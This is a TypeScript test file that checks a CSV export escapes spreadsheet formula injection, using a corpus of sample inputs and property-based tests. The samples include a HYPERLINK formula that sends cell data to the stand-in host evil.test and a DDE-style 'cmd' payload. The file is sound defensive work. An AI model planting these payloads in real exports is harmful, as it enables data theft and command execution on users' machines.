import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLines } from '../../api/inbox/csv.ts';
import { failedForSolution, putItem } from '../api/inbox-office.ts';
import { type Api, openApi } from '../api/outbox-api.ts';
import { csvRecords, parseCsv } from '../support/csv.ts';

let api: Api;
beforeAll(async () => {
  api = await openApi();
});
afterAll(() => api.close());

const formula = `=HYPERLINK("http://evil.test/?"&A1,"open")`;
/** What people and devices could send, and what a spreadsheet must find in its place. */
const corpus: [sent: string, kept: string][] = [
  [formula, `'${formula}`],
  ['+31 6 1234', `'+31 6 1234`],
  ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
  ['@SUM(1+1)*cmd', `'@SUM(1+1)*cmd`],
  ['\t=1+1', `'\t'=1+1`],
  ['\r=1+1', `'\r'=1+1`],
  ['＝1+1', `'＝1+1`],
  ['  =1+1', `  '=1+1`],
  ['\n=1+1', `\n'=1+1`],
  // A Dutch spreadsheet parts the cells of a line at semicolons.
  ['pump;=1+1', `pump;'=1+1`],
  ['pump"; @x', `pump"; '@x`],
  // And begins one with a quote wherever it parts them.
  ['pump;"=1+1;', `pump;"'=1+1;`],
  ['"=1+1', `"'=1+1`],
  // What is none stays as it is.
  ['WO-1042', 'WO-1042'],
  ['a=b, "c"', 'a=b, "c"'],
  ['line 1\r\nline 2', 'line 1\r\nline 2'],
  ["'quoted'", "'quoted'"],
];

const FORMULA = /^[\s"]*[=+\-@＝＋－＠]/;
/** The cells for whoever parts the lines at semicolons or tabs, and whatever becomes of the quotes. */
const parted = (file: string): string[] => file.split(/[;\t\r\n]/);

describe('20 exports escape formulas', () => {
  it.each(corpus)('%j', async (sent, kept) => {
    const { id } = await putItem(api.inbox.db, {
      ...failedForSolution,
      ...{ objectId: sent, objectNumber: sent, parentType: 'order', parentId: sent },
      ...{ deviceId: `device ${sent}`, appVersion: sent, modifiedBy: sent, assignee: sent },
    });
    const path = `/v1/inbox/export?appVersion=${encodeURIComponent(sent)}`;
    const { text } = await api.call('mia', path);
    const [record] = csvRecords(text);
    expect(record).toMatchObject({
      ...{ id, objectId: kept, objectNumber: kept, parentId: kept },
      ...{ appVersion: kept, modifiedBy: kept, assignee: kept },
    });
  });

  it('in no cell of no row, whatever stands around it', async () => {
    const { text } = await api.call('mia', '/v1/inbox/export');
    const file = text.replace(/^\uFEFF/, '');
    const cells = parseCsv(file).flat();
    expect(cells.length).toBeGreaterThan(corpus.length * 20);
    for (const cell of [...cells, ...parted(file)]) expect(cell).not.toMatch(FORMULA);
  });

  it('in whatever text, to which nothing is done but that', () => {
    const unit = fc.constantFrom(...`=+-@＝＋－＠;;\t\r\n  "",'ab1`);
    const row = fc.array(fc.string({ unit, maxLength: 12 }), { minLength: 3, maxLength: 3 });
    const plain = (cell: string) => cell.replaceAll("'", '');
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 3 }), (rows) => {
        const file = csvLines(rows);
        const read = parseCsv(file);
        for (const cell of [...read.flat(), ...parted(file)]) expect(cell).not.toMatch(FORMULA);
        expect(read.map((cells) => cells.map(plain))).toEqual(
          rows.map((cells) => cells.map(plain)),
        );
        const harmless = (cell: string) =>
          !/^[\t\r]/.test(cell) && !parted(cell).some((part) => FORMULA.test(part));
        rows.forEach((cells, r) => {
          cells.forEach((cell, c) => {
            if (harmless(cell)) expect(read[r]?.[c]).toBe(cell);
          });
        });
      }),
      { numRuns: 2_000 },
    );
  });

  it.each(['\n', '"', '\n"', ';', '\n='])(
    'in a long text as fast as in many short ones: %j',
    (of) => {
      const long = `${of.repeat(100_000)}x`;
      expect(csvLines([[long]]).length).toBeGreaterThan(long.length);
    },
  );
});
